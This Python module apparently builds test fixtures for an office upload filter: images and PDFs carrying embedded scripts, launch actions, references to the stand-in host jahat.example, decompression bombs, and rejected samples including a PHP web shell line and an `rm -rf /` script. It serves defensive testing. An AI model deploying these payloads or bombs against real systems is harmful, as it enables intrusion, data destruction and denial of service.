"""Files that someone might send to harm the office, each made in code: what it is → bytes (or how, when slow)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

MARK = b"<script>alert('titipan')</script>"


def photo(kind="JPEG", size=(64, 48), mode="RGB", **settings):
    image = Image.new(mode, size)
    if mode in ("RGB", "RGBA"):
        ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1] // 2), fill="#c04020")
    out = io.BytesIO()
    image.save(out, kind, **settings)
    return out.getvalue()


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("a.txt", MARK)
    return out.getvalue()


def png(width, height, *chunks, depth=8, colour=2):
    """A PNG of the size that its head claims, with chunks of one's own."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    if not chunks:
        row = b"\0" + b"\x80" * (width * 3)
        chunks = ((b"IDAT", zlib.compress(row * min(height, 64))),)
    parts = ((b"IHDR", head), *chunks, (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


def repeated(block, times, before=b""):
    """zlib data of a block many times, made without holding what it grows to."""
    first, again = zlib.compressobj(9, wbits=-15), zlib.compressobj(9, wbits=-15)
    head = first.compress(before) + first.flush(zlib.Z_FULL_FLUSH)
    body = again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(before)
    for _time in range(times):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + head + body * times + b"\x03\x00" + struct.pack(">I", check)


def png_bomb(width, height, colour=6):
    """A PNG of one colour: a few kilobytes that decode to four bytes a pixel. `height` in hundreds."""
    samples = {0: 1, 2: 3, 6: 4}[colour]
    row = b"\0" + b"\x80" * (width * samples)
    return png(width, height, (b"IDAT", repeated(row * 100, height // 100)), colour=colour)


def exif_photo(**tags):
    exif = Image.Exif()
    exif[0x0112] = tags.get("orientation", 1)
    exif[0x010E] = MARK.decode()
    exif[0x9286] = MARK
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "S", (6.0, 53.0, 19.0), "E", (109.0, 40.0, 31.0)
    return photo(exif=exif)


def with_segment(marker, data):
    """A JPEG with one more segment after its start."""
    jpeg = photo()
    return jpeg[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


# --- PDFs ---------------------------------------------------------------------------------------------------


def pdf(change=None, pages=1, **saving):
    """A PDF of real pages that say “Surat”; `change(pdf)` makes it hostile."""
    with pikepdf.new() as file:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        for _page in range(pages):
            page = file.add_blank_page(page_size=(200, 200))
            page.obj.Resources = Dictionary(Font=Dictionary(F1=font, A=font))
            page.obj.Contents = file.make_stream(b"BT /F1 24 Tf 20 100 Td (Surat) Tj /A 9 Tf (JS) Tj ET")
        if change:
            change(file)
        out = io.BytesIO()
        file.save(out, **saving)
        return out.getvalue()


def script(text="app.alert(1)"):
    return Dictionary(S=Name.JavaScript, JS=String(text))


def at_root(**entries):
    def change(file):
        for key, value in entries.items():
            file.Root[f"/{key}"] = value

    return change


def on_page(**entries):
    def change(file):
        for key, value in entries.items():
            file.pages[0].obj[f"/{key}"] = value

    return change


def annotated(**entries):
    """A page with one annotation."""
    note = Dictionary(Type=Name.Annot, Rect=[10, 10, 90, 90], **entries)
    return lambda file: file.pages[0].obj.__setitem__("/Annots", Array([file.make_indirect(note)]))


def action(kind, **entries):
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name(f"/{kind}"), **entries))


def embedded(file):
    spec = Dictionary(
        Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file.make_stream(b"MZ", Type=Name.EmbeddedFile))
    )
    file.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), file.make_indirect(spec)])))


def filled_form(file):
    """A field with a value, and a script that calculates it."""
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nama"), V=String("Sari"), Rect=[20, 20, 120, 40],
        DA=String("/Helv 12 Tf 0 g"), AA=Dictionary(C=script()),
    )  # fmt: skip
    field = file.make_indirect(field)
    file.pages[0].obj.Annots = Array([field])
    file.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DR=Dictionary(Font=Dictionary(Helv=file.pages[0].obj.Resources.Font.F1)),
        XFA=String("<xdp/>"),
        CO=Array([field]),
    )


def metadata(file):
    file.docinfo["/Author"] = MARK.decode()
    file.Root.Metadata = file.make_stream(MARK, Type=Name.Metadata, Subtype=Name.XML)
    file.pages[0].obj.PieceInfo = Dictionary(
        X=Dictionary(LastModified=String("D:2026"), Private=String(MARK.decode()))
    )


def outside_stream(file):
    content = file.make_stream(b"")
    content["/F"] = String("\\\\jahat.example\\bagi\\isi")
    content["/FFilter"] = Name.FlateDecode
    file.pages[0].obj.Contents = Array([file.pages[0].obj.Contents, content])


def postscript(file):
    stream = file.make_stream(b"(%stdin) (r) file", Type=Name.XObject, Subtype=Name.PS)
    file.pages[0].obj.Resources.XObject = Dictionary(P=stream)


def reference_page(file):
    stream = file.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    stream["/Ref"] = Dictionary(F=String("http://jahat.example/a.pdf"), Page=0)
    file.pages[0].obj.Resources.XObject = Dictionary(R=stream)


def stream_bomb(levels):
    def change(file):
        data = inflating(200)
        for _level in range(levels - 1):
            data = zlib.compress(data, 9)
        names = Name.FlateDecode if levels == 1 else Array([Name.FlateDecode] * levels)
        file.pages[0].obj.Contents = pikepdf.Stream(file, data, Filter=names)

    return change


def inflating(megabytes, before=b"", filler=b"\0"):
    """zlib data of a kilobyte for each megabyte that it grows to."""
    return repeated(filler * (1024 * 1024), megabytes, before)


def _stream(number, entries, data):
    head = f"{number} 0 obj\n<< {entries} /Filter /FlateDecode /Length {len(data)} >>\nstream\n".encode()
    return head + data + b"\nendstream\nendobj\n"


def padded_xref_stream(megabytes=600):
    """Its table of objects is a stream, with hundreds of megabytes behind the table."""
    parts = [
        b"%PDF-1.7\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n",
    ]
    places = [sum(map(len, parts[:count])) for count in range(1, 5)]
    table = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    xref = _stream(4, "/Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R", inflating(megabytes, table))
    return b"".join(parts) + xref + f"startxref\n{places[-1]}\n%%EOF\n".encode()


def padded_object_stream(megabytes=600):
    """Its page is in a stream of objects, with hundreds of megabytes of blanks behind it."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
    parts = [
        b"%PDF-1.7\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        _stream(4, "/Type /ObjStm /N 1 /First 4", inflating(megabytes, b"3 0 " + page, b" ")),
    ]
    first, second, stream, end = (sum(map(len, parts[:count])) for count in range(1, 5))
    rows = [(0, 0, 65535), (1, first, 0), (1, second, 0), (2, 4, 0), (1, stream, 0), (1, end, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = _stream(5, "/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", zlib.compress(table))
    return b"".join(parts) + xref + f"startxref\n{end}\n%%EOF\n".encode()


def appearance_bomb(file):
    """A filled-in field whose picture of itself is hundreds of megabytes of drawing."""
    form = pikepdf.Stream(file, inflating(600, b"q Q\n", b" "), Filter=Name.FlateDecode)
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 80, 80])
    filled_form(file)
    file.pages[0].obj.Annots[0].AP = Dictionary(N=file.make_indirect(form))


def image_bomb(file):
    image = file.make_stream(b"\0" * 10, Type=Name.XObject, Subtype=Name.Image, Width=60000, Height=60000,
                             ColorSpace=Name.DeviceGray, BitsPerComponent=8)  # fmt: skip
    file.pages[0].obj.Resources.XObject = Dictionary(I=image)


def loop(file):
    first = file.make_indirect(Dictionary())
    first.Next = first
    first.Kids = Array([first])
    file.pages[0].obj.Resources.Properties = Dictionary(L=first)


def deep(file):
    node = Dictionary(End=1)
    for _level in range(400):
        node = file.make_indirect(Dictionary(In=node))
    file.pages[0].obj.Resources.Properties = Dictionary(D=node)


def hidden_in_object_stream():
    return pdf(at_root(OpenAction=script()), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_names():
    return pdf(at_root(OpenAction=script())).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def incremental():
    """A script added by a later update of a harmless file."""
    first = pdf()
    root = int(first.split(b"/Root ")[1].split()[0])
    update = (
        f"\n{root} 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n"
        f"endobj\ntrailer\n<< /Root {root} 0 R /Size 20 >>\nstartxref\n0\n%%EOF\n"
    )
    return first + update.encode()


PHOTOS = {
    "gps and a script in EXIF": exif_photo(),
    "turned by EXIF": exif_photo(orientation=6),
    "an archive behind a photo": photo() + archive(),
    "a page behind a photo": photo() + MARK,
    "a PDF behind a photo": photo() + pdf(),
    "a comment with a script": with_segment(0xFE, MARK),
    "an XMP packet": with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + MARK),
    "a colour profile that is a script": photo(icc_profile=MARK * 20),
    "a PNG with texts": png(8, 8, (b"tEXt", b"Comment\0" + MARK), (b"IDAT", zlib.compress((b"\0" + b"\1" * 24) * 8))),
    "a PNG with an unknown chunk": png(8, 8, (b"juMP", MARK), (b"IDAT", zlib.compress((b"\0" + b"\1" * 24) * 8))),
    "a CMYK photo": photo(mode="CMYK"),
    "an animated picture": photo("WEBP", save_all=True, append_images=[Image.new("RGB", (64, 48), "red")]),
    "a transparent picture": photo("PNG", mode="RGBA"),
    "a picture of one pixel": photo(size=(1, 1)),
    "a very long picture": photo("PNG", size=(4, 9000)),
    "a 16-bit picture": photo("PNG", mode="I;16"),
    "a photo in a photo": photo() + photo(size=(900, 900)),
}

PDFS = {
    "a script on opening": pdf(at_root(OpenAction=script())),
    "a script among the names": pdf(
        at_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()]))))
    ),
    "a script when a page opens": pdf(on_page(AA=Dictionary(O=script()))),
    "a script when the file closes": pdf(at_root(AA=Dictionary(WC=script()))),
    "a script behind a link": pdf(annotated(Subtype=Name.Link, A=script())),
    "a script behind the next action": pdf(action("GoTo", D=Array([]), Next=script())),
    "a program to launch": pdf(action("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))),
    "another document": pdf(action("GoToR", F=String("\\\\jahat.example\\x.pdf"), D=Array([]))),
    "an embedded document": pdf(action("GoToE", T=Dictionary(R=Name.C, N=String("a")))),
    "a web address": pdf(action("URI", URI=String("https://jahat.example/?siapa"))),
    "a form that is sent": pdf(action("SubmitForm", F=String("https://jahat.example/"))),
    "data that is imported": pdf(action("ImportData", F=String("x.fdf"))),
    "a movie": pdf(annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi")))),
    "a sound": pdf(action("Sound", Sound=Dictionary())),
    "a rendition": pdf(action("Rendition", JS=String("app.alert(1)"))),
    "rich media": pdf(annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "a 3D scene with a script": pdf(annotated(Subtype=Name("/3D"), **{"3DD": Dictionary(OnInstantiate=script())})),
    "an embedded program": pdf(embedded),
    "an attached file": pdf(annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a.exe")))),
    "associated files": pdf(on_page(AF=Array([Dictionary(Type=Name.Filespec, F=String("a"))]))),
    "a form with XFA and a calculation": pdf(filled_form),
    "metadata": pdf(metadata),
    "content in another file": pdf(outside_stream),
    "PostScript": pdf(postscript),
    "a page of another document": pdf(reference_page),
    "a script in an object stream": hidden_in_object_stream(),
    "names written otherwise": escaped_names(),
    "a script added by an update": incremental(),
    "a page behind the document": pdf() + MARK,
    "an archive behind the document": pdf() + archive(),
    "objects in a circle": pdf(loop),
    "objects four hundred deep": pdf(deep),
    "a password to change it only": pdf(encryption=pikepdf.Encryption(owner="x", user="")),
}

REFUSED = {
    "nothing": b"",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "HTML": b"<!doctype html>" + MARK,
    "a Windows program": b"MZ\x90\x00" + b"\0" * 200,
    "a Linux program": b"\x7fELF" + b"\0" * 200,
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "an archive": archive(),
    "a compressed tar": b"\x1f\x8b\x08" + b"\0" * 60,
    "a 7z archive": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
    "a RAR archive": b"Rar!\x1a\x07\x00" + b"\0" * 60,
    "a Word document": b"PK\x03\x04" + b"\0" * 100,
    "an old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200,
    "RTF": rb"{\rtf1 hello}",
    "a GIF": photo("GIF", mode="L"),
    "a GIF that is a script": b"GIF89a/*" + MARK,
    "a TIFF": photo("TIFF"),
    "a BMP": photo("BMP"),
    "an icon": photo("ICO"),
    "HEIC": b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "a video": b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "an MVG picture": b"push graphic-context\nimage over 0,0 0,0 'https://jahat.example'",
    "PostScript alone": b"%!PS-Adobe-3.0\nquit",
    "a cut-off JPEG": photo(size=(900, 900), quality=95)[:400],
    "the head of a JPEG": b"\xff\xd8\xff\xe0",
    "the head of a PNG": b"\x89PNG\r\n\x1a\n",
    "a picture bomb": png(30_000, 30_000),
    "a picture bomb in one line": png(900_000_000, 1, (b"IDAT", zlib.compress(b"\0" * 1000))),
    "a PNG that isn't what it says": png(64, 64, (b"IDAT", b"nonsense")),
    "a PDF in name only": b"%PDF-1.7 hello",
    "a page before a PDF": b"<!--\n" + pdf() + b"-->",
    "a PDF of nothing": b"%PDF-1.7\n%%EOF",
    "a PDF with a password": pdf(encryption=pikepdf.Encryption(owner="x", user="rahasia")),
    "a PDF of too many pages": pdf(pages=201),
    "a PDF bomb": lambda: pdf(stream_bomb(1), compress_streams=False),
    "a PDF bomb in a bomb": lambda: pdf(stream_bomb(2), compress_streams=False),
    "a picture bomb in a PDF": pdf(image_bomb),
    "a PDF bomb in the table of objects": padded_xref_stream,
    "a PDF bomb in a stream of objects": padded_object_stream,
    "a PDF bomb in a field": lambda: pdf(appearance_bomb, compress_streams=False),
    "a picture of 58 KB and a hundred megabytes": lambda: png_bomb(5900, 5900),
}
